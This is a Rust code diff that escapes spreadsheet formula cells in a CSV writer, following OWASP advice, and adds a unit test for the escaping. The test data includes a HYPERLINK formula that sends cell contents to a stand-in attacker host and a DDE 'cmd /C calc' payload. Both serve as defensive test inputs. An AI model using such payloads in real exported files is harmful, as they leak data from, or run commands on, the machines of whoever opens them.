@@ -179,16 +179,41 @@ impl<W: Write + Send> CsvSink<W> {
     }
 }
 
+/// A cell as a spreadsheet may open it safely: text starting with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return is a formula to Excel and
+/// LibreOffice (`=HYPERLINK(…)` sends data away), so it gets a leading `'`,
+/// as OWASP advises; numbers (`-12.5`) stay as they are.
+fn neutralised(cell: &str) -> CsvCell<'_> {
+    let formula = cell
+        .bytes()
+        .next()
+        .is_some_and(|b| matches!(b, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'));
+    CsvCell(if formula && cell.parse::<f64>().is_err() {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    })
+}
+
+/// A cell as the CSV writer takes it (bytes), borrowed unless it changed.
+struct CsvCell<'a>(std::borrow::Cow<'a, str>);
+
+impl AsRef<[u8]> for CsvCell<'_> {
+    fn as_ref(&self) -> &[u8] {
+        self.0.as_bytes()
+    }
+}
+
 impl<W: Write + Send> RowSink for CsvSink<W> {
     fn columns(&mut self, columns: &[Column]) -> Result<(), ExecError> {
         self.writer
-            .write_record(columns.iter().map(|c| c.name.as_str()))
+            .write_record(columns.iter().map(|c| neutralised(&c.name)))
             .map_err(|e| ExecError::Sink(e.to_string()))
     }
 
     fn row(&mut self, row: &[Cell]) -> Result<(), ExecError> {
         self.writer
-            .write_record(row.iter().map(|c| c.as_deref().unwrap_or("")))
+            .write_record(row.iter().map(|c| neutralised(c.as_deref().unwrap_or(""))))
             .map_err(|e| ExecError::Sink(e.to_string()))
     }
 }
@@ -344,6 +369,33 @@ mod tests {
             name: name.into(),
             type_name: t.into(),
         }
+    }
+
+    #[test]
+    fn a_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
+        let mut csv = CsvSink::new(Vec::new(), false).unwrap();
+        csv.columns(&[col("=cmd", "TEXT"), col("n", "NUMERIC")])
+            .unwrap();
+        for (text, number) in [
+            ("=HYPERLINK(\"http://evil.example/?\"&A1)", "-12.5"),
+            ("+1+1", "+3"),
+            ("@SUM(A1)", "1e3"),
+            ("-cmd|' /C calc'!A0", "-0"),
+            ("\tindent", "7"),
+            ("plain", "-"),
+        ] {
+            csv.row(&[Some(text.to_owned()), Some(number.to_owned())])
+                .unwrap();
+        }
+        let written = String::from_utf8(csv.finish().unwrap()).unwrap();
+        let lines: Vec<&str> = written.lines().collect();
+        assert_eq!(lines[0], "'=cmd,n");
+        assert!(lines[1].starts_with("\"'=HYPERLINK(") && lines[1].ends_with(",-12.5"));
+        assert_eq!(lines[2], "'+1+1,+3");
+        assert_eq!(lines[3], "'@SUM(A1),1e3");
+        assert_eq!(lines[4], "'-cmd|' /C calc'!A0,-0");
+        assert_eq!(lines[5], "'\tindent,7");
+        assert_eq!(lines[6], "plain,'-");
     }
 
     #[test]
